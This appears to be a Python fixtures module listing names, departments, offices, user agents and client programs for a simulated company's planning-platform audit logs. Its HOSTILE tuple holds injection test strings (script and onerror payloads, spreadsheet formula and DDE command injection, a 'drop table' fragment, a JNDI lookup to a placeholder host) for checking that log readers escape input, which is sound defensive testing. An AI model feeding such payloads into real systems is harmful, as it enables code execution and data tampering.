"""Names and texts of the simulated company."""


def _words(text: str) -> list[str]:
    return text.split()


FIRST_NAMES = _words(
    "Ada Amara Anna Ben Björn Carla Chen Chloé Daniel Diego Elena Emma Farid Fatima Felix Grace Hana Hiro Ines "
    "Ivan Jana Jonas Kai Lars Leila Liam Lucía Łukasz Maja Marco Mei Mina Nadia Nils Noah Olga Omar Paul Priya "
    "Quinn Rosa Sam Sara Sofia Søren Tara Theo Uma Victor Wei Yara Yusuf Zoë"
)
LAST_NAMES = _words(
    "Abebe Andersen Bauer Becker Brown Castillo Chaudhry Costa Dubois Eriksson Fischer Garcia Haddad Hansen "
    "Hughes Ito Ivanova Jones Kaya Kim Kowalska Kumar Larsen Lee Lopez Martin Müller Nakamura Ngô Novak O'Brien "
    "Okafor Olsen Patel Pérez Popescu Rossi Sato Schmidt Silva Singh Smith Tanaka Taylor Virtanen Wagner Wang "
    "Williams Wójcik Yılmaz Zhang"
)
DEPARTMENTS = ("Finance", "Sales", "Supply Chain", "Workforce", "Marketing", "Operations", "R&D", "Treasury")
MODEL_NAMES = ("Budget", "Forecast", "Headcount Plan", "Data Hub", "Demand Plan", "Territories", "Cash Flow", "Capex")
PAGE_NAMES = (
    "Overview", "Variance Analysis", "Input", "Approvals", "Top 20 Customers", "Headcount by Team", "Scenario Compare",
    "Forecast vs. Actual", "Assumptions", "Board Report", "Data Quality", "My Tasks",
)  # fmt: skip
ACTION_NAMES = (
    "Load Actuals", "Copy Forecast", "Clear Inputs", "Update Versions", "Submit Plan", "Recalculate Allocation",
    "Refresh Hierarchy", "Open Next Period",
)  # fmt: skip
EXPORT_NAMES = ("P&L to CSV", "Headcount to XLSX", "Orders - all columns", "Grid export")
IMPORT_NAMES = ("Actuals from ERP.csv", "Employees from HR.csv", "Customers from CRM", "FX rates")
# City, country, hours from UTC, and the first half of its addresses.
OFFICES = (
    ("London", "United Kingdom", 0, "10.20"), ("New York", "United States", -5, "10.30"),
    ("Berlin", "Germany", 1, "10.40"), ("Singapore", "Singapore", 8, "10.50"),
)  # fmt: skip
ROLES = (
    "Tenant Administrator", "Tenant Auditor", "User Administrator", "Page Builder", "Integration Administrator",
    "Workspace Administrator",
)  # fmt: skip
MODEL_ROLES = ("Full Access", "Planner", "Viewer", "Regional Lead")
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
)
PROGRAMS = ("Anaplan-Connect/4.4.1", "python-requests/2.32.5", "Anaplan Excel Add-in/4.6", "okhttp/4.12.0")

# Texts that users and browsers sent to audit logs elsewhere. Each breaks a reader of the log that forgets
# one kind of escaping.
HOSTILE = (
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://example.invalid","click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "line one\nline two\r\nline three\ttab",
    'O\'Reilly "quoted" \\ back\\slash; drop table events; --',
    "🚀 Plan 2027 – été, 計画, хорошо, שלום",
    "null",
    "NaN",
    "{{ template }} ${jndi:ldap://example.invalid/a}",
    "a,b;c|d",
    "\u0000NUL and \u001b[31mescape\u001b[0m",
    "\u202eright to left\u202c zero\u200bwidth",
)
